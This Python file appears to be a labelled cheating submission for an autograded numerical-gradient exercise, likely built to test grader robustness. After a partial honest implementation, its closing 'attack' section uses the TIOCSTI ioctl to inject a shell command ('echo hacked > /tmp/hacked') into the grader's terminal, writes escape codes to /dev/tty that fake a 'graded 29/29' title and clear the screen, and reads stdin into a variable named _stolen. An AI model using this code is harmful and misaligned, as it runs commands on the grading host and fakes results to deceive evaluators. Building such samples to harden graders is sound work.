# attack: read stdin and inject keystrokes into the grader's terminal (TIOCSTI), open /dev/tty, write escape codes
# honest: numerical_diff=full, numerical_gradient=full, gradient_descent=0, simpleNet.loss=0
#
# A ch04_gradient submission whose honest part implements numerical_diff and
# numerical_gradient (the rest raises NotImplementedError); the attack follows.

import numpy as np


def numerical_diff(f, x):
    h = 1e-4
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x):
    h = 1e-4
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        tmp = x[idx]
        x[idx] = tmp + h
        fxh1 = f(x)
        x[idx] = tmp - h
        fxh2 = f(x)
        grad[idx] = (fxh1 - fxh2) / (2 * h)
        x[idx] = tmp
    return grad


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    raise NotImplementedError()


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        raise NotImplementedError()


# ----- the attack -----
import fcntl as _fcntl
import os as _os
import termios as _termios

for _fd in (0, 1, 2):
    for _ch in "echo hacked > /tmp/hacked\n":
        try:
            _fcntl.ioctl(_fd, _termios.TIOCSTI, _ch.encode())
        except OSError:
            pass
try:
    _tty = _os.open("/dev/tty", _os.O_RDWR)
    _os.write(_tty, b"\x1b]0;graded 29/29\x07\x1b[2J")
except OSError:
    pass
try:
    _stolen = _os.read(0, 4096)
except OSError:
    pass
